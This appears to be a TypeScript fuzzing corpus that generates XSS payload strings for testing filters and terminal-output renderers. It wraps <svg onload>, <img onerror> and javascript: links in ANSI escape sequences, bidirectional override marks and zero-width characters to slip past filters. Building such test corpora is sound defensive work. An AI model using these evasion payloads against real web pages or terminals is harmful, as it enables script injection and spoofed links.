const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** What a terminal obeys: links, titles, colours with something in them, sequences that never end. */
export const ansi = (): string[] => [
  ...[BEL, ST, '\u009c'].flatMap((end) =>
    ['javascript:§', 'data:text/html,<svg onload=§>', '"onmouseover="§', '"><img src onerror=§>'].map(
      (to) => `${ESC}]8;id=¤;${to}${end}¤${ESC}]8;;${end}`,
    ),
  ),
  ...[0, 1, 2, 52, 1337].map((code) => `${ESC}]${code};<img src onerror=§>${BEL}`),
  `${ESC}[31m<img src onerror=§>${ESC}[0m`,
  `<im${ESC}[31mg src onerr${ESC}[0mor=§>`,
  `${ESC}[38;2;1;2;3"onmouseover=§m¤`,
  `${ESC}[38;5;999999999m<svg onload=§>`,
  `${ESC}[38;2;1;2;expression(§)m¤`,
  `${ESC}[;;;;;;;;;;;;;;;;;;;;;;;;m<svg onload=§>`,
  `${ESC}[31"><svg onload=§>m`,
  `${ESC}[?1049h<svg onload=§>`,
  `${ESC}[2J${ESC}[H<svg onload=§>`,
  `${ESC}P<svg onload=§>${ST}`,
  `${ESC}_<svg onload=§>${ST}`,
  `${ESC}^<svg onload=§>${ST}`,
  `${ESC}X<svg onload=§>${ST}`,
  `${ESC}]8;;javascript:§`,
  `${ESC}]8;;javascript:§${BEL}<b onclick=§>¤`,
  `${ESC}${ESC}[31m<svg onload=§>`,
  `\u009b31m<svg onload=§>`,
  `\u009d8;;javascript:§\u009c¤`,
  `<svg\b\b\b\b<script>§</script>`,
  `harmless\r<svg onload=§>`.replace('\r', '\u000b'),
  `${ESC}c<svg onload=§>`,
  `${ESC}[6n${ESC}[c<svg onload=§>`,
];

const MARKS = ['\u202e', '\u202d', '\u202a', '\u202b', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'];

/** Marks that turn the direction of what follows. */
export const bidi = (): string[] => [
  ...MARKS.map((mark) => `${mark}<img src onerror=§>`),
  ...MARKS.map((mark) => `[¤](${mark}javascript:§)`),
  '>\u202e§=rorrno crs gmi<',
  'exe.\u202egnp.¤',
  '\u2067<svg onload=§>\u2069\u202c\u202c\u202c',
];

const NOTHINGS = ['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u180e', '\u034f', '\ufe0f', '\u{e0001}'];

/** Characters that show nothing, inside of what a filter looks for. */
export const invisible = (): string[] => [
  ...NOTHINGS.map((nothing) => `<${nothing}script>§</script>`),
  ...NOTHINGS.map((nothing) => `java${nothing}script:§`),
  ...NOTHINGS.map((nothing) => `<svg ${nothing}onload=§>`),
  ...NOTHINGS.map((nothing) => `https://canary.invalid/${nothing}"onclick=§`),
];
